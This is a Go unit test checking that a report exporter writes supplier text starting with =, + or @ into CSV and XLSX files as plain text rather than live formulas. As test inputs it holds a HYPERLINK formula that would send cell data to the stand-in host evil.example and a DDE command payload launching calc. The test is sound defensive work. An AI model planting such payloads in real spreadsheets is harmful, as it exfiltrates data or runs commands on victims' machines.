package report

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/steerco/steerco/internal/i18n"
	"github.com/xuri/excelize/v2"
)

// TestExportsCarryNoFormulas: a narrative a supplier starts with + or =
// is text in the CSV (an apostrophe in front) and text in the XLSX (a
// string cell, no formula).
func TestExportsCarryNoFormulas(t *testing.T) {
	cat, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	l := Labels{Cat: cat, Lang: "en", Loc: time.UTC}
	const evil = `+HYPERLINK("http://evil.example/?"&A1,"click")`
	p := &Pack{Agreement: "x", Name: "=cmd|' /C calc'!A0", Language: "en", Month: "2026-04",
		Improvements: Text{Text: evil}, Projects: Text{Text: "@SUM(1,2)"}}
	var csv bytes.Buffer
	if err := Write(&csv, "csv", l, p); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(csv.String(), "\n") {
		for _, cell := range strings.Split(line, ",") {
			cell = strings.TrimPrefix(cell, `"`)
			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Errorf("live formula in the CSV: %q", line)
			}
		}
	}
	if !strings.Contains(csv.String(), `'+HYPERLINK`) {
		t.Errorf("the narrative is not kept as text:\n%s", csv.String())
	}
	var xl bytes.Buffer
	if err := Write(&xl, "xlsx", l, p); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&xl)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, sheet := range f.GetSheetList() {
		rows, _ := f.GetRows(sheet)
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s holds formula %q", sheet, cell, formula)
				}
				found = found || v == evil
			}
		}
	}
	if !found {
		t.Error("the XLSX does not keep the narrative as its text")
	}
}
